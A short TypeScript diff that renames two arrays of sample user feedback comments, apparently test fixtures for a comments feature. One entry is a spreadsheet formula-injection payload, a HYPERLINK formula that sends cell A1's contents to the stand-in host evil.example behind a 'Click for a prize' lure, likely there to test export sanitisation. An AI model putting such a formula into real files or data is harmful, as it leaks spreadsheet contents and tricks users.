@@ -11,7 +11,7 @@ interface TypicalQuestion {
   readonly confidence: number;
 }
 
-export const LIKED: readonly string[] = [
+export const LIKE_COMMENTS: readonly string[] = [
   'Exactly what I needed, thanks!',
   'Clear and short.',
   'The example worked on the first try.',
@@ -21,7 +21,7 @@ export const LIKED: readonly string[] = [
   '=HYPERLINK("https://evil.example/?leak="&A1,"Click for a prize")',
 ];
 
-export const DISLIKED: readonly string[] = [
+export const DISLIKE_COMMENTS: readonly string[] = [
   'The command in step 3 fails with "permission denied".',
   'Screenshot is outdated, the menu is called Settings now.',
   'Where is the rate limit documented?',
